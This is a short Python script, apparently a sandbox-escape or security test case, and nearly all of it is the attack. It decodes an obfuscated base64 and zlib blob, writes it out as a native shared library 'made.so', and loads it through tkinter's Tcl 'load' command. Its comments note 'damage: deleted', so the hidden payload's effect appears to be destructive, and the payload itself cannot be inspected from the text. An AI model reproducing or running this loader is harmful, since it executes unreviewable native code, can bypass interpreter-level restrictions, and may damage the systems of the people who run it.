# And loads libraries.
# damage: deleted
# needs: linux, x86_64, _tkinter
import base64
import tkinter
import zlib

MADE = """
eNqllM1Kw0AQgGdTrdWqtR5EEWk9qYirqR5UUIT6C4J60lvZNisNmBaTVexJrx58Bx/Do9CrIAj6Bt491pMmdbZulpYIDqRfZ3Ymszuzmeut/W
2DEJASg3X41QA2kDcx1bYMXf5vPySbvt3QWT5ImDD0g0CNq+vpMBMkTBlnYFwD7Y10mK3Ny3hUj96FFYe/y5DymhjmBS1FOxnwn2G/Is/oFFdi
AvsTkXVGOaztVWxRcJjFwTs/swVfbCoF2zcr9UD3B4w3Xx6OfezeraUC3L6luuvmY725XKd0vnohPNvi85d2SdgOFVciHD8G4XqPQzhPFzKL/r
LHN9q5llHvQz2DTCJHkT3Ie60vcr1X0z+/vqpRtf6P7OTzq9npTV60WSVr5miOLsyZS7MWL5q5C3MGTQDUK3vCFawItMy8MlCrVvFqzg+FC9Tl
ZyxQgAruF5m6VYsJBpSXC6cuczjQoJEF5rqs1oxijl0CWqo6Dq+If58jib0xtH5JynoaHfqbxncYWj8ld+H3vpI2fRvTvg95PyQz2n71fk7iXg
ztftxH7F/aZ5VZot5vyYmI/Cbacqi/kjBHOsRLruB/o9O80ySh6Xn/GVTmQWsOkvb+CY0HeHYZ35qH2kZjWpycbyfosqDlaeCBpiLOT9RZpkgG
jSyi/t/qO3AQ
"""
with open("made.so", "wb") as file:
    file.write(zlib.decompress(base64.b64decode(MADE)))
tkinter.Tcl().eval("catch {load ./made.so}")
